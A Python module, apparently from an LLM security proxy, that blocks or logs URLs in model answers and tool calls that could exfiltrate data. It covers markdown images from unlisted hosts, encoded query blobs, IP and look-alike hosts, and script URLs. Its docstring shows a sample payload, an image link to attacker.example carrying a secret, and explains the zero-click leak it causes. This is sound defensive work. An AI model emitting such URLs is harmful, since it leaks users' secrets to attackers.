"""Built-in policy `egress`: stops answers and tool calls from carrying data to hosts nobody
allowed. The classic leak is an answer holding `![](https://attacker.example/?q=<secret>)`: the
client's markdown renderer fetches the image by itself and the query reaches the attacker, no
click needed. Images from hosts not allow-listed are therefore blocked by default, as are URLs
whose query, path or subdomain carries an encoded blob, IP-literal and look-alike hosts and
`javascript:` URLs; other links to unlisted hosts and `data:` URLs are logged.

Each kind has its own action (`allow`, `log`, `block`, `confirm`, `redact`); `redact` replaces
the URL with `[REDACTED:<kind>]` (in streamed answers too), except in tool calls the model
emits, which cannot be rewritten and are blocked instead. Setting `action` applies it to every
kind without an entry in `actions`.
"""

from __future__ import annotations

from typing import Any, ClassVar, Literal

from pydantic import Field, field_validator

from capsem_proxy.decisions import Decision
from capsem_proxy.detectors.base import Detector, Finding
from capsem_proxy.detectors.urls import (
    BlobLimits,
    HostAllowList,
    UrlDetector,
    UrlKind,
    check_host_entries,
    parse_url,
    registrable_domain,
)
from capsem_proxy.hooks import ModelResponse
from capsem_proxy.policies.detector_policy import DetectorOptions, DetectorPolicy, Place

__all__ = ["DEFAULT_ACTIONS", "EgressOptions", "EgressPolicy"]

EgressAction = Literal["allow", "log", "block", "confirm", "redact"]

DEFAULT_ACTIONS: dict[str, EgressAction] = {
    "markdown_image": "block",
    "encoded_query": "block",
    "ip_host": "block",
    "homograph": "block",
    "script_url": "block",
    "data_url": "log",
    "link": "log",
}
_PHRASES = {
    "markdown_image": "image from a host not allow-listed",
    "encoded_query": "encoded data in a URL",
    "ip_host": "URL to an IP address",
    "homograph": "look-alike host",
    "script_url": "script URL",
    "data_url": "data: URL",
    "link": "link to a host not allow-listed",
}
_MAX_DOMAINS_NAMED = 3
_DEFAULT_SCAN: list[Place] = ["answers", "tool_calls"]


class EgressOptions(DetectorOptions):
    """Options of EgressPolicy (plus every option of DetectorOptions)."""

    action: EgressAction = Field(  # type: ignore[assignment]
        "block", description="when set, the action of every kind not in `actions`"
    )
    actions: dict[UrlKind, EgressAction] = Field(  # type: ignore[assignment]
        default_factory=dict, description="URL kind -> action, over the defaults (see DEFAULT_ACTIONS)"
    )
    scan: list[Place] = Field(default_factory=lambda: _DEFAULT_SCAN.copy(), description="where to look")
    allowed_domains: list[str] = Field(
        default_factory=list,
        description="domains (with their subdomains), '*.domain' (subdomains only), IP addresses or networks",
    )
    allow_loopback: bool = Field(True, description="URLs to 127.0.0.0/8, ::1 and localhost are allowed")
    min_base64_chars: int = Field(24, ge=8, description="shortest base64-like run counted as data in a query")
    min_hex_chars: int = Field(32, ge=8, description="shortest hex run counted as data in a query")
    max_query_chars: int = Field(256, ge=16, description="a longer query to an unlisted host counts as data")
    min_escaped_chars: int = Field(8, ge=1, description="needless %-escapes (of letters, digits) counted as data")
    window_chars: int = Field(512, ge=1, description="longest URL judged before any of it streams out")

    @field_validator("allowed_domains")
    @classmethod
    def _domains_valid(cls, domains: list[str]) -> list[str]:
        return check_host_entries(domains)


class EgressPolicy(DetectorPolicy):
    """URL egress control for answers and tool calls (built-in name `egress`)."""

    name: ClassVar[str] = "egress"
    reason: ClassVar[str] = "leakage"
    options_model: ClassVar[type[DetectorOptions]] = EgressOptions
    # What leaves: calls in a request's history were checked when the model emitted them.
    screens_call_history: ClassVar[bool] = False

    def __init__(self, options: DetectorOptions) -> None:
        assert isinstance(options, EgressOptions)
        fallback = options.action if "action" in options.model_fields_set else None
        self._kind_actions: dict[str, EgressAction] = {
            kind: options.actions.get(kind) or fallback or default  # type: ignore[call-overload]
            for kind, default in DEFAULT_ACTIONS.items()
        }
        super().__init__(options)
        self.url_detector: UrlDetector = self.detector  # type: ignore[assignment]

    def build_detector(self, options: DetectorOptions) -> Detector:
        assert isinstance(options, EgressOptions)
        limits = BlobLimits(
            min_base64_chars=options.min_base64_chars,
            min_hex_chars=options.min_hex_chars,
            max_query_chars=options.max_query_chars,
            min_escaped_chars=options.min_escaped_chars,
        )
        return UrlDetector(HostAllowList(options.allowed_domains, allow_loopback=options.allow_loopback), limits)

    def action_for(self, kind: str) -> Any:
        return self._kind_actions.get(kind, "block")

    def decide(
        self, hook: str, text: str, *, reversible: bool = False, can_redact: bool = True, complete: bool = True
    ) -> Decision | None:
        """The decision on the URLs of `text`; `complete=False` for a streamed answer still growing."""
        if not text:
            return None
        findings = [
            finding
            for finding in self.url_detector.scan(text, complete=complete)
            if self._kind_actions.get(finding.kind) != "allow"
        ]
        if not findings:
            return None
        decision = self.decision_for(hook, findings, reversible=reversible, can_redact=can_redact)
        decision.details, domains = _describe(findings)
        decision.extra["domains"] = domains
        return decision

    async def on_model_response(self, event: ModelResponse) -> Decision | None:
        answer = event.answer
        text = answer.text if not answer.thinking else answer.thinking + "\n" + answer.text
        return self.decide("on_model_response", text, complete=event.final)


def _describe(findings: list[Finding]) -> tuple[str, list[str]]:
    """What was found, naming registrable domains only: a subdomain or query may hold the data."""
    by_kind: dict[str, list[str]] = {}
    all_domains: list[str] = []
    for finding in findings:
        url = parse_url(finding.text) if finding.kind not in ("data_url", "script_url") else None
        domain = "" if url is None else str(url.ip) if url.ip is not None else registrable_domain(url.host)
        domains = by_kind.setdefault(finding.kind, [])
        if domain and domain not in domains:
            domains.append(domain)
            if domain not in all_domains:
                all_domains.append(domain)
    parts = []
    for kind, domains in by_kind.items():
        named = ", ".join(domains[:_MAX_DOMAINS_NAMED]) + (", ..." if len(domains) > _MAX_DOMAINS_NAMED else "")
        parts.append(f"{_PHRASES.get(kind, kind)} ({named})" if named else _PHRASES.get(kind, kind))
    return "; ".join(parts), all_domains
